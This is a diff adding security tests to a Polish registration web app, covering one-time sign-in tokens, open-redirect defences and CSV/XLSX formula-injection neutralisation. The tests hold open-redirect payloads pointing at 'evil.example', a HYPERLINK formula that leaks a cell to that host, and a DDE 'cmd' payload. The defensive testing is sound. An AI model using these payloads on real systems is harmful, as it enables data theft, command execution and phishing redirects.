@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -27,7 +28,7 @@ from mailer.reading.understand import understand
 from mailer.settings import load_settings
 from mailer.staff import review_queue
 from mailer.store import open_state
-from mailer.web.app import check_bind, create_app, is_loopback
+from mailer.web.app import check_bind, create_app, is_local, is_loopback
 from tests.conftest import Workspace
 from tests.dovecot import Dovecot
 from tests.e2e.realrun import ADAM, INCOMPLETE, QUESTION, REQUEST, WEB_NOW, ZOFIA, real_run
@@ -166,6 +167,45 @@ def test_logout_ends_the_session(shared: Workspace) -> None:
     csrf = csrf_of(client.get("/").text)
     assert client.post("/logout", data={"csrf": csrf}).status_code == 200
     assert client.get("/").status_code == 401
+
+
+def test_the_token_signs_in_once(shared: Workspace) -> None:
+    """Traded for a session, the token opens nothing more: another browser gets a Polish page
+    saying to use the open session or restart `mailer web`; the signed-in one just lands."""
+    first = signed_in(shared)
+    second = TestClient(first.app, base_url=BASE, follow_redirects=False)
+    again = second.get(f"/registrations?token={TOKEN}")
+    assert again.status_code == 401 and "set-cookie" not in again.headers
+    assert "już użyty" in again.text and "mailer web" in again.text
+    assert ZOFIA[0] not in again.text
+    pasted = second.post("/login", data={"token": TOKEN})
+    assert pasted.status_code == 401 and "set-cookie" not in pasted.headers
+    assert "już użyty" in pasted.text
+    assert second.get("/registrations").status_code == 401
+    reopened = first.get(f"/cities?token={TOKEN}")
+    assert reopened.status_code == 303 and reopened.headers["location"] == "/cities"
+    assert "set-cookie" not in reopened.headers
+    assert first.get("/registrations").status_code == 200
+    by_form = client_for(shared)  # the pasted token is spent the same way
+    assert by_form.post("/login", data={"token": TOKEN}).status_code == 303
+    late = TestClient(by_form.app, base_url=BASE, follow_redirects=False)
+    assert late.get(f"/?token={TOKEN}").status_code == 401
+
+
+def test_sign_in_redirects_stay_on_this_server(shared: Workspace) -> None:
+    """`//evil.example/?token=…` and its variants land on our own "/", never on another site."""
+    for path in ("//evil.example/", "///evil.example/x", "/%2F/evil.example/",
+                 "/%09/evil.example/"):
+        response = client_for(shared).get(f"{BASE}{path}?token={TOKEN}&q=1")
+        assert response.status_code == 303, path
+        assert response.headers["location"] == "/?q=1", path
+    escaped = client_for(shared).get(f"{BASE}/%5Cevil.example/?token={TOKEN}")
+    location = escaped.headers["location"]  # a path of ours, the backslash kept encoded
+    assert location.startswith("/") and not location.startswith(("//", "/\\")), location
+    assert is_local("/") and is_local("/person?address=a%40b.pl&done=registered")
+    for target in ("//evil.example", "/\\evil.example", "http://evil.example/", "evil",
+                   "/\t/evil.example", ""):
+        assert not is_local(target), target
 
 
 def test_binding_beyond_loopback_needs_public(tmp_path: Path) -> None:
@@ -373,6 +413,28 @@ def test_review_register_and_mark_handled(fresh: Workspace) -> None:
     assert [e["how"] for e in entries] == ["registered", "handled"]
     assert all(e["actor"].endswith("(web)") for e in entries)
     assert entries[1]["note"] == "oddzwonię"
+
+
+def test_downloads_neutralise_formulas(fresh: Workspace) -> None:
+    """A registration holding formulas: the CSV download has them as text behind `'`, the XLSX
+    as text cells; the phone stays as written (OWASP CSV injection, issue 12)."""
+    client = signed_in(fresh)
+    question = key_of(fresh, QUESTION)
+    csrf = csrf_of(client.get(f"/review/{question}").text)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1;"Kliknij")', "=cmd|' /C calc'!A0",
+               "+SUM(1;2)"]
+    done = client.post(f"/review/{question}/register", data={
+        "csrf": csrf, "name": hostile[0], "position": hostile[1], "city": hostile[2],
+        "phone": "+48581234567", "email": QUESTION, "event": ["pim"]})
+    assert done.status_code == 303, done.text
+    text = client.get("/registrations.csv").content.decode("utf-8-sig")
+    [row] = [r for r in csv.reader(io.StringIO(text), delimiter=";") if r[4] == QUESTION]
+    assert row[1:4] == [f"'{value}" for value in hostile] and row[5] == "+48581234567"
+    book = openpyxl.load_workbook(io.BytesIO(client.get("/registrations.xlsx").content))
+    [cells] = [r for r in book["Wszystkie"].iter_rows(min_row=2) if r[4].value == QUESTION]
+    assert [c.value for c in cells[1:4]] == hostile
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells[1:4])
+    assert cells[5].value == "+48581234567"
 
 
 def test_actions_refused_while_the_service_holds_the_lock(shared: Workspace) -> None:
